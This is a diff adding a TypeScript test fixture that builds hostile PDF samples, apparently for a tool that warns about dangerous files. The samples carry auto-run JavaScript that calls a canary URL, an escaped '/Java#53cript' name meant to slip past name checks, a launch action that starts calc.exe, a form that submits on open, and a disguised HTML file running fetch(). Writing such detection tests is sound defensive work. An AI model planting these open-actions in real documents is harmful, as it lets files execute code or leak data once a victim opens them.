@@ -1,0 +1,37 @@
+import { pdfFile } from '../../madeFiles.ts'
+import type { HostileFiles } from './HostileFile.ts'
+
+/** Documents that act once they are opened, and some that are none. */
+export const hostilePdf: HostileFiles = (canary) => [
+  {
+    path: 'pdf/script.pdf',
+    content: pdfFile(
+      'a',
+      `/OpenAction << /S /JavaScript /JS (app.launchURL\\('${canary}/js'\\)) >>`,
+    ),
+    sight: /This PDF has scripts\. .* it may ask questions/,
+  },
+  {
+    path: 'pdf/hidden-name.pdf',
+    content: pdfFile(
+      'a',
+      `/OpenAction << /S /Java#53cript /JS (app.launchURL\\('${canary}/js'\\)) >>`,
+    ),
+    sight: /This PDF has scripts/,
+  },
+  {
+    path: 'pdf/launch.pdf',
+    content: pdfFile('a', '/OpenAction << /S /Launch /F (calc.exe) >>'),
+    sight: /an action that starts a program/,
+  },
+  {
+    path: 'pdf/form.pdf',
+    content: pdfFile('a', `/AA << /O << /S /SubmitForm /F (${canary}/form) >> >>`),
+    sight: /a form that sends or fetches data/,
+  },
+  {
+    path: 'pdf/page.pdf',
+    content: `<script>fetch('${canary}')</script>`,
+    sight: /not what its name says: it does not begin as a PDF does/,
+  },
+]
